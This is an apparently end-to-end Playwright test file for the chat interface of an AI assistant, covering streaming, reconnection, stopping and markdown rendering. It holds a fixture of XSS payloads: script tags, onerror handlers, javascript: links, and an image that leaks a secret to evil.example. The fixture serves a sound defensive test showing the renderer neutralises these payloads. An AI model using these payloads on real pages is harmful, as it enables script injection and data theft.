"""Answers: how they come, what may interrupt them, and how they end."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import WebSocketRoute, expect

from tests.e2e.conftest import start
from tests.e2e.place import Api, Place, messages_of, numbered, send, text_of
from tests.e2e.window import MOD, Window
from tests.support.server import Server

CODE = """\
def high_water(hour: float) -> bool:
    return hour > 12.42
"""
MARKDOWN = f"""\
## Tides

The *moon* does it, see `harbour/tides.py`:

```python
{CODE}```

| hour | height |
|---|---|
| 1 | 7.0 |

- one
- two
"""
HOSTILE = """\
Before <script>document.title = 'owned'</script><img src="x" onerror="document.title = 'owned'">

[press me](javascript:document.title='owned') and [data](data:text/html,<script>document.title='owned'</script>)

![a picture](https://evil.example/leak.png?secret=1) <iframe src="https://evil.example/"></iframe>

<style>body { display: none }</style><form action="https://evil.example/"><button>free money</button></form>

After.
"""


def test_tools_run_and_the_answer_streams(window: Window) -> None:
    window.send("Look around. SCRIPT:parallel")
    expect(window.conversation).to_contain_text("All done.")
    window.rest()
    batch = window.button(re.compile("Listed a directory, read a file, searched once"))
    if batch.get_attribute("aria-expanded") == "false":
        batch.click()
    for line in ("List", "Read README.md", "Search"):
        expect(window.button(re.compile(f"^{line}"), window.conversation).last).to_be_visible()
    window.button(re.compile("^Read README.md"), window.conversation).click()
    expect(window.conversation.get_by_label("Output")).to_contain_text("Tells when the tide is high.")


def test_reasoning_folds_to_one_line_that_opens(window: Window) -> None:
    window.ask("Think. SCRIPT:think", "Thought about it.")
    thought = window.button(re.compile("^Thought"), window.conversation)
    expect(thought).to_have_attribute("aria-expanded", "false")
    thought.click()
    expect(window.conversation).to_contain_text("Let me think about that.")


def test_a_reload_in_the_middle_loses_and_doubles_nothing(window: Window, model: Api, api: Api, place: Place) -> None:
    words = numbered(240)
    window.send(f"Count. {model.script('count', {'say': words, 'delay_ms': 12})}")
    expect(window.conversation).to_contain_text("word40 ")
    seen = window.counted()
    window.page.reload()
    expect(window.conversation).to_contain_text(seen)
    window.rest()
    assert window.counted() == words
    assert text_of(messages_of(api, place)[-1]) == words


def test_a_killed_server_leaves_an_interrupted_answer_that_goes_on(
    window: Window, server: Server, model: Api, place: Place
) -> None:
    window.allow_a_lost_server()
    marker = model.script("dies", {"say": numbered(5000), "delay_ms": 10})
    window.send(f"Count. {marker}")
    expect(window.conversation).to_contain_text("word30 ")
    server.kill()
    seen = window.counted()
    expect(window.page.get_by_text("Connection lost")).to_have_count(1)
    start(server)
    expect(window.conversation.get_by_text(re.compile("interrupted", re.IGNORECASE)).last).to_be_visible()
    assert numbered(5000).startswith(window.counted())
    assert window.counted().startswith(seen)
    model.script("dies", {"say": "Here it goes on."})
    window.button("Continue").click()
    expect(window.conversation).to_contain_text("Here it goes on.")
    window.rest()
    expect(window.page.get_by_text("Connection lost")).to_have_count(0)


@pytest.mark.parametrize("how", ["button", "key"])
def test_stop_ends_the_answer_and_keeps_what_came(window: Window, how: str) -> None:
    window.send("On and on. SCRIPT:forever")
    expect(window.conversation).to_contain_text("on and on on and on")
    if how == "button":
        window.button("Stop").click()
    else:
        window.box.press("Escape")
    expect(window.conversation.get_by_text("Stopped")).to_be_visible()
    window.rest()
    expect(window.conversation).to_contain_text("on and on on and on")


@pytest.mark.parametrize(("status", "words"), [(401, "Invalid key sk-…"), (500, "the GPU fell off")])
def test_an_error_is_told_in_the_words_of_the_provider_and_can_be_tried_again(
    window: Window, model: Api, status: int, words: str
) -> None:
    error = {"status": status, "body": {"error": {"message": words}}, "headers": {"Retry-After": "0"}}
    failing = {"error": error}
    window.send(f"Hello? {model.script(f'fails{status}', failing)}")
    expect(window.button("Try again")).to_be_visible()
    expect(window.conversation).to_contain_text(words)
    model.script(f"fails{status}", {"say": "Now it works."})
    window.button("Try again").click()
    expect(window.conversation).to_contain_text("Now it works.")
    window.rest()


def test_a_loop_of_calls_is_stopped_and_can_go_on(window: Window) -> None:
    window.send("Again and again. SCRIPT:loop")
    expect(window.button("Continue")).to_be_visible()


def test_markdown_is_rendered_and_copied_as_it_was_written(window: Window, model: Api) -> None:
    window.ask(f"Explain. {model.script('markdown', {'say': MARKDOWN})}", "two")
    answer = window.conversation
    expect(answer.get_by_role("heading", name="Tides")).to_be_visible()
    expect(answer.get_by_role("cell", name="7.0")).to_be_visible()
    expect(answer.get_by_label("python code")).to_have_text(CODE.strip(), use_inner_text=True)
    window.button("Copy as Markdown").click()
    assert window.copied() == MARKDOWN.strip()
    window.button("Copy code").click()
    assert window.copied().strip() == CODE.strip()


def test_hostile_markdown_does_and_loads_nothing(window: Window, model: Api) -> None:
    window.ask(f"Attack me. {model.script('hostile', {'say': HOSTILE})}", "After.")
    answer = window.conversation
    for tag in ("script", "iframe", "style", "form", "img", "[onerror]"):
        expect(answer.locator(tag)).to_have_count(0)
    expect(answer).to_contain_text("not loaded: https://evil.example/leak.png")
    for link in answer.get_by_role("link").all():
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
    answer.get_by_text("press me").click()
    assert "owned" not in window.page.title()


def test_a_message_sent_elsewhere_appears_here(window: Window, api: Api, place: Place) -> None:
    send(api, place, "Sent from another device. SCRIPT:say")
    expect(window.prompts).to_contain_text("Sent from another device.")
    expect(window.conversation).to_contain_text("Hello from the scripted model.")


def test_shift_enter_makes_a_line_and_not_a_message(window: Window) -> None:
    window.box.fill("one")
    window.box.press("Shift+Enter")
    window.box.press_sequentially("two")
    expect(window.box).to_have_value("one\ntwo")
    window.box.press(f"{MOD}+Enter")
    expect(window.prompts).to_have_count(1)
    window.rest()


def test_a_lost_connection_in_the_middle_loses_and_doubles_nothing(
    window: Window, model: Api, api: Api, place: Place
) -> None:
    sockets: list[WebSocketRoute] = []

    def pass_on(socket: WebSocketRoute) -> None:
        socket.connect_to_server()
        sockets.append(socket)

    window.page.route_web_socket(re.compile("/api/ws$"), pass_on)
    window.page.reload()
    words = numbered(240)
    window.send(f"Count. {model.script('counts', {'say': words, 'delay_ms': 12})}")
    for seen in ("word20 ", "word60 ", "word100 "):
        expect(window.conversation).to_contain_text(seen)
        sockets[-1].close(code=1012)
    window.rest()
    assert len(sockets) > 2
    assert window.counted() == words
    assert text_of(messages_of(api, place)[-1]) == words


def test_diagrams_and_formulas_are_drawn(window: Window, model: Api) -> None:
    drawn = "```mermaid\ngraph LR\n  moon[Moon] --> water[Water]\n```\n\n$$h = 4.1 + 2.9 \\cos(t)$$\n\nDone."
    window.ask(f"Draw. {model.script('drawn', {'say': drawn})}", "Done.")
    diagram = window.conversation.get_by_role("img", name="Diagram")
    expect(diagram).to_be_visible()
    expect(diagram).to_have_js_property("complete", True)
    expect(window.conversation.get_by_role("math")).to_have_count(1)
